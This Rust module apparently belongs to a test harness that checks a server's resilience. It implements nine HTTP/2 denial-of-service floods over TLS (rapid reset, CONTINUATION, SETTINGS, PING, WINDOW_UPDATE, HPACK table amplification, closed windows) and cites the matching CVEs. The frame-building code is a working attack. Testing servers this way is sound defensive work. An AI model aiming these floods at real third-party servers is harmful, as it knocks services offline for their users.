//! HTTP/2 clients that obey its frames and not its purpose, over TLS: streams that are reset at once, headers without an end, settings
//! and pings without a pause, tables that grow when they are unpacked, windows that never open (RFC 9113 §10.5; CVE-2019-9511 to 9518,
//! CVE-2023-44487, CVE-2024-27316).
//!
//! TLS is `openssl s_client`, so that no library of the product is on this side. Each connection ends when the server ends it, or after
//! a while.

use std::io::{Read as _, Write as _};
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use crate::clock::{Started, sleep};
use crate::harness::attack::Stage;

/// How long one connection is kept.
const CONNECTION_TIME_MAX: Duration = Duration::from_secs(5);
/// Between two bursts: a flood is bounded, so that it is not the machine that is measured.
const PAUSE: Duration = Duration::from_millis(5);

/// What a client floods with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are reset at once.
    RapidReset,
    /// One head in endless CONTINUATION frames.
    Continuation,
    /// The same in frames without an octet.
    EmptyContinuation,
    /// SETTINGS, each of which must be acknowledged.
    Settings,
    /// PINGs, each of which must be answered.
    Ping,
    /// A body of frames without an octet.
    EmptyData,
    /// Windows that grow by one.
    WindowUpdate,
    /// A large header that is named again and again in one octet each.
    Unpacked,
    /// A hundred answers that the client never takes.
    ClosedWindows,
}

/// All of them, with the words for a report.
pub const FLOODS: [(Flood, &str); 9] = [
    (Flood::RapidReset, "rapid reset"),
    (Flood::Continuation, "continuation"),
    (Flood::EmptyContinuation, "empty continuation"),
    (Flood::Settings, "settings"),
    (Flood::Ping, "ping"),
    (Flood::EmptyData, "empty data"),
    (Flood::WindowUpdate, "window update"),
    (Flood::Unpacked, "headers that unpack"),
    (Flood::ClosedWindows, "closed windows"),
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const INITIAL_WINDOW: u16 = 4;

impl Stage<'_> {
    /// One connection after the other, each flooded until the server ends it.
    pub fn flood(&self, https: SocketAddr, flood: Flood) {
        while self.goes_on() {
            self.begin();
            // A connection that cannot be had is an end as well.
            if let Ok(ended) = self.flood_once(https, flood)
                && !ended
            {
                self.keep();
            } else {
                self.end();
            }
            sleep(Duration::from_millis(50));
        }
    }

    /// Whether the server ended it.
    fn flood_once(&self, https: SocketAddr, flood: Flood) -> std::io::Result<bool> {
        let mut tls = Tls::connect(https)?;
        let mut stream = 1;
        let mut burst = [PREFACE, &frame(SETTINGS, 0, 0, &settings(flood))].concat();
        let started = Started::now();
        loop {
            burst.extend(next(flood, &mut stream));
            if tls.input.write_all(&burst).is_err() || tls.has_ended()? {
                return Ok(true);
            }
            burst.clear();
            if !self.goes_on() || started.elapsed() > CONNECTION_TIME_MAX {
                return Ok(false);
            }
            sleep(PAUSE);
        }
    }
}

/// What is sent in one burst. `stream` is the next stream that no one has used.
fn next(flood: Flood, stream: &mut u32) -> Vec<u8> {
    let mut fresh = || {
        *stream += 2;
        *stream - 2
    };
    let is_first = |stream: u32| stream == 1;
    match flood {
        Flood::RapidReset => (0..100)
            .flat_map(|_| {
                let id = fresh();
                [
                    frame(HEADERS, END_HEADERS | END_STREAM, id, &head("GET", "/")),
                    frame(RST_STREAM, 0, id, &[0, 0, 0, 8]),
                ]
            })
            .flatten()
            .collect(),
        Flood::Continuation | Flood::EmptyContinuation => {
            let mut burst = Vec::new();
            let id = fresh();
            if is_first(id) {
                burst = frame(HEADERS, END_STREAM, 1, &head("GET", "/"));
            }
            let (count, fragment) = match flood {
                Flood::Continuation => (2, literal("x-a", &"a".repeat(8000))),
                _ => (200, Vec::new()),
            };
            burst.extend((0..count).flat_map(|_| frame(CONTINUATION, 0, 1, &fragment)));
            burst
        }
        Flood::Settings => (0..200).flat_map(|_| frame(SETTINGS, 0, 0, &[])).collect(),
        Flood::Ping => (0..200).flat_map(|_| frame(PING, 0, 0, b"whimbrel")).collect(),
        Flood::EmptyData => {
            let mut burst = Vec::new();
            let id = fresh();
            if is_first(id) {
                burst = frame(HEADERS, END_HEADERS, 1, &head("POST", "/sms/json"));
            }
            burst.extend((0..200).flat_map(|_| frame(DATA, 0, 1, &[])));
            burst
        }
        Flood::WindowUpdate => (0..200).flat_map(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).collect(),
        Flood::Unpacked => {
            // Literal with indexing, new name: it becomes the dynamic table's first entry, index 62.
            let large = [&[0x40], string("x-large").as_slice(), &string(&"a".repeat(3900))].concat();
            let again = std::iter::repeat_n(0x80 | 62, 12_000);
            let block: Vec<u8> = head("GET", "/").into_iter().chain(large).chain(again).collect();
            frame(HEADERS, END_HEADERS | END_STREAM, fresh(), &block)
        }
        Flood::ClosedWindows => {
            let id = fresh();
            if is_first(id) { closed_windows(id) } else { frame(PING, 0, 0, b"whimbrel") }
        }
    }
}

fn closed_windows(first: u32) -> Vec<u8> {
    (0..100).flat_map(|at| frame(HEADERS, END_HEADERS | END_STREAM, first + 2 * at, &head("GET", "/"))).collect()
}

fn settings(flood: Flood) -> Vec<u8> {
    match flood {
        Flood::ClosedWindows => [&INITIAL_WINDOW.to_be_bytes()[..], &0_u32.to_be_bytes()].concat(),
        _ => Vec::new(),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // Payloads are ours and shorter than 2^14.
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A head of literals without Huffman coding and without the dynamic table (RFC 7541 §6.2.2).
fn head(method: &str, path: &str) -> Vec<u8> {
    [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")]
        .iter()
        .flat_map(|(name, value)| literal(name, value))
        .collect()
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0], string(name).as_slice(), &string(value)].concat()
}

/// A string with its length as an integer of seven bits (RFC 7541 §5.1, §5.2).
fn string(text: &str) -> Vec<u8> {
    let mut octets = Vec::new();
    match u8::try_from(text.len()) {
        Ok(length) if length < 0x7F => octets.push(length),
        _ => {
            octets.push(0x7F);
            let mut rest = text.len() - 0x7F;
            while rest >= 0x80 {
                octets.push(0x80 | u8::try_from(rest % 0x80).unwrap_or(0));
                rest /= 0x80;
            }
            octets.push(u8::try_from(rest).unwrap_or(0));
        }
    }
    octets.extend_from_slice(text.as_bytes());
    octets
}

/// A TLS connection as a child process. Dropped, it is ended.
struct Tls {
    child: Child,
    input: std::process::ChildStdin,
    _drain: std::thread::JoinHandle<()>,
}

impl Tls {
    fn connect(https: SocketAddr) -> std::io::Result<Self> {
        let mut child = Command::new("openssl")
            .args(["s_client", "-quiet", "-alpn", "h2", "-connect", &https.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()?;
        let missing = || std::io::Error::from(std::io::ErrorKind::BrokenPipe);
        let input = child.stdin.take().ok_or_else(missing)?;
        let mut output = child.stdout.take().ok_or_else(missing)?;
        // What the server says is taken and forgotten: only closed windows are meant not to be read, and those close by frames.
        let drain = std::thread::spawn(move || {
            let mut sink = [0; 16 * 1024];
            while output.read(&mut sink).is_ok_and(|count| count > 0) {}
        });
        Ok(Self { child, input, _drain: drain })
    }

    fn has_ended(&mut self) -> std::io::Result<bool> {
        Ok(self.child.try_wait()?.is_some())
    }
}

impl Drop for Tls {
    fn drop(&mut self) {
        // Both fail only if it is gone already.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_strings_are_those_of_the_standards() {
        assert_eq!(frame(PING, 0, 0, b"whimbrel"), b"\0\0\x08\x06\0\0\0\0\0whimbrel");
        assert_eq!(frame(RST_STREAM, 0, 5, &[0, 0, 0, 8]), [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
        // RFC 7541 appendix C.2.2 has this literal with an indexed name; ours spells the name.
        assert_eq!(literal(":path", "/sample/path"), b"\0\x05:path\x0c/sample/path");
        // The integer 1337 with a prefix of five bits is 31, 154, 10 (appendix C.1.2); with seven bits 127, 186, 9.
        assert_eq!(string(&"a".repeat(1337))[..3], [127, 186, 9]);
    }

    #[test]
    fn heads_come_before_what_continues_them_and_streams_are_new() {
        let mut stream = 1;
        let burst = next(Flood::Continuation, &mut stream);
        assert_eq!((burst[3], burst[4]), (HEADERS, END_STREAM));
        assert_eq!(next(Flood::Continuation, &mut stream)[3], CONTINUATION);
        let mut stream = 1;
        next(Flood::RapidReset, &mut stream);
        assert_eq!(stream, 201);
    }
}
